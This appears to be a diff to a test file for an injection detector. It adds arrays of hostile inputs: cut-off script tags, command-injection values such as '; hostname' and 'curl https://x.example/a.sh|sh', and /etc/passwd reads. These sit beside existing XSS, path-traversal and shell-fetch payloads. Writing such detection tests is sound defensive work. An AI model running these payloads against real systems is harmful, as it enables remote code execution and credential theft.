@@ -67,10 +67,15 @@ const queries = [
 const addresses = [
   ...['http://10.1.2.3/shell.txt?', 'https://evil.example/a/r57.gif??', 'ftp://x.example/c.php#'],
 ];
+/** A script that words after it make no program. */
+const cutScripts = ['"><script>x', '-1<script>x'];
+/** A separator and a command, or a command, that are the whole value. */
+const wholeCommands = ['; hostname', '| history', ';mount', 'curl https://x.example/a.sh|sh'];
 /** What proves one where the value begins. */
 const beginnings = [
   ...['${alert(1)}', '*/alert(1)/*', '-prompt(document.domain)-', '1;alert(1)', "' like '%"],
   ...['..;a=b/x', 'echo md5("x");', 'cat /etc/passwd', 'cat /etc/shadow|head'],
+  ...['cat</etc/passwd', '/bin/cat /etc/passwd'],
   'a/../../x.ini\0',
 ];
 /** Addresses of the writer's own machine, which texts name. */
@@ -95,27 +100,25 @@ const lostIn: Readonly<Record<string, readonly string[]>> = {
   'with prose before': [
     ...[...wholeValues, ...shortValues, ...queries, ...beginnings, ...afterOneWord, ...addresses],
     ...[...secretFiles, ...ownMachine, ...quoted, ...dottedPaths, ...ownCommands],
-    'a\nuname -a',
+    ...['a\nuname -a', ...wholeCommands],
   ],
   'with filler before': [
     ...[...wholeValues, ...shortValues, ...queries, ...beginnings, ...afterOneWord, ...addresses],
     ...[...secretFiles, ...ownMachine, ...quoted, ...dottedPaths, ...ownCommands],
-    ...behindBounds,
+    ...[...behindBounds, ...wholeCommands],
   ],
-  'with prose behind': [...endings, ...ownCommands, ...secretNames, ...shortValues, ...addresses],
+  'with prose behind': [
+    ...[...endings, ...ownCommands, ...secretNames, ...shortValues, ...addresses],
+    ...[...cutScripts, ...wholeCommands],
+  ],
   'with filler behind': [
-    ...endings,
-
-    ...ownCommands,
-    ...secretNames,
-    ...shortValues,
-    ...queries,
-    ...addresses,
+    ...[...endings, ...ownCommands, ...secretNames, ...shortValues, ...queries, ...addresses],
+    ...[...cutScripts, ...wholeCommands],
   ],
   'with filler in a string behind': [
     ...[...endings, ...ownCommands],
     ...shortValues.filter((text) => !text.endsWith('-- ')),
-    ...[...queries, ...addresses, ...secretNames],
+    ...[...queries, ...addresses, ...secretNames, ...cutScripts, ...wholeCommands],
   ],
 };
 
